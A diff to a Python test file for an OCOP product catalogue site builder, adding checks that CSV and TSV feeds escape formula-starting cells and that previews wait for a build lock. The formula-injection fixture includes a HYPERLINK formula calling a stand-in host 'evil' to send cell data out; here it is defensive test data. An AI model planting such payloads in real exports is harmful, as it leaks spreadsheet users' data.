@@ -108,12 +108,13 @@ def test_no_csv_or_tsv_cell_starts_a_formula(tmp_path):
     write(products, "doc-hai.yaml", hostile)
     assert build_site(out, products) == 0
     tables = sorted((out / "feeds").glob("*.csv")) + sorted((out / "feeds").glob("*.tsv"))
-    assert {f.name for f in tables} >= {
+    assert {f.name for f in tables} == {
         "meta-catalogue.csv",
         "meta-catalogue-en.csv",
         "google-merchant-vi.tsv",
         "google-merchant-en.tsv",
-    } and any("open" in f.name or "ocop" in f.name for f in tables if f.suffix == ".csv"), tables
+        "ocop-products.csv",
+    }
     seen = set()
     for table in tables:
         rows = list(
@@ -124,6 +125,24 @@ def test_no_csv_or_tsv_cell_starts_a_formula(tmp_path):
                 assert not cell.startswith(FORMULA_STARTS), (table.name, cell)
                 seen.add(cell)
     assert '\'=HYPERLINK("http://evil/?"&A1)' in seen and "'@SUM(1+1)" in seen
+    opendata = (out / "feeds/ocop-products.csv").read_text(encoding="utf-8")
+    assert "'@SUM(1+1)" in opendata and "'=HYPERLINK" in opendata
+
+
+def test_the_preview_waits_for_a_build(tmp_path):
+    """A preview rebuild and a build share the cache: the preview takes the same lock."""
+    from ocop_catalogue.publish import EXIT_BUSY, lock_file, locked, preview_site, site_of
+
+    from conftest import SETTINGS
+
+    products = tmp_path / "products"
+    write(products, "a.yaml", GOOD_RECORD)
+    settings = {"OCOP_PRODUCTS_PATH": str(products), "OCOP_CACHE_PATH": str(tmp_path / "cache")}
+    site_ = site_of(SETTINGS, {**settings, "OCOP_BUILD_DATE": BUILD_DATE, "OCOP_BUILD_LOCK_WAIT": 0.2})
+    with locked([lock_file(site_)], 1, print):  # as a running build holds it
+        assert preview_site(site_, tmp_path / "preview", "en") == EXIT_BUSY
+    assert not (tmp_path / "preview" / "index.html").exists()
+    assert preview_site(site_, tmp_path / "preview", "en") == 0
 
 
 def test_two_builds_at_once_publish_one_complete_site(site, tmp_path):
